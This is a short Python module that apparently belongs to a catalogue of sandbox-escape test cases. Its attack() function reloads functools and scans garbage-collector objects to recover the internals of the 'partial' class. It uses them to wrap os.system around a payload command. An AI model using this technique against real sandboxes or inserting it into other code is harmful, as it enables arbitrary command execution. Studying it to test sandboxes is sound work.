"""A partial() of the class in Python, of a closure that stands beside it."""
CATEGORY = "callable"
REACH = "run"

import functools
import gc
import importlib.util
import os

from . import payload


def attack():
    global hook
    gc.disable()
    spec = importlib.util.spec_from_file_location("other",
                                                  functools.__file__)
    other = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(other)
    for cls in gc.get_objects():
        if type(cls) is type and cls.__qualname__ == "partial" and (
                hasattr(cls.__call__, "__code__")):
            same = cls.__call__.__globals__
            same["partial"] = cls
            hook = cls(same["singledispatch"](os.system), payload.COMMAND)
